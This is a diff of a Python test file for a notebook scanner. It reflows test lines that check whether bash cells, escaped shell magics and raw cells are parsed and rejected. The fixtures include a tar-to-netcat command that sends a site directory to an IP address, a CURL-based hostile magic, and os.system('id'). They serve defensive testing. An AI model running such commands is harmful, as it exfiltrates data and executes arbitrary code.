@@ -99,7 +99,8 @@ def test_a_markdown_cell_is_prose():
 def test_a_language_cell_is_that_language_and_a_raw_cell_is_code():
     nb = script_notebook(("# %%\nx = 1\n\n# %% language=\"bash\"\n# tar czf - /data/site | nc 203.0.113.7 9\n\n"
                           "# + [raw]\n# import os\n").encode())
-    assert [(line.line, line.text) for line in nb.shell] == [(1, "%%bash"), (2, "tar czf - /data/site | nc 203.0.113.7 9")]
+    assert [(line.line, line.text) for line in nb.shell] == [(1, "%%bash"),
+                                                             (2, "tar czf - /data/site | nc 203.0.113.7 9")]
     assert any("import os" in cell.source for cell in nb.cells)
 
 
@@ -117,7 +118,8 @@ def test_an_unmarked_script_is_python_only(tmp_path):
 @pytest.mark.parametrize("cell", [f"# !{CURL}", f"# %% language=\"sh\"\n# {CURL}", f"# x = !{CURL}",
                                   f"# %% [raw]\n# import os\n# os.system({CURL!r})"])
 def test_a_marked_script_with_a_hostile_escaped_magic_is_rejected(tmp_path, cell):
-    report = kit.scan_files(tmp_path, {"client.py": CLIENT, "explore.py": HEADER + "# %%\nimport torch\n\n" + cell + "\n"})
+    explore = HEADER + "# %%\nimport torch\n\n" + cell + "\n"
+    report = kit.scan_files(tmp_path, {"client.py": CLIENT, "explore.py": explore})
     kit.assert_held(report, decision=Decision.REJECT)
 
 
@@ -135,7 +137,8 @@ MARKDOWN = "---\njupyter:\n  jupytext:\n    text_representation:\n      format_n
 
 
 def test_a_raw_region_is_a_raw_cell_read_as_code():
-    nb = read_notebook((MARKDOWN + "<!-- #raw -->\nimport os\nos.system('id')\n<!-- #endraw -->\n\nMore text.\n").encode())
+    raw = "<!-- #raw -->\nimport os\nos.system('id')\n<!-- #endraw -->\n\nMore text.\n"
+    nb = read_notebook((MARKDOWN + raw).encode())
     assert [cell.source for cell in nb.cells] == ["\nimport os\nos.system('id')"]
 
 
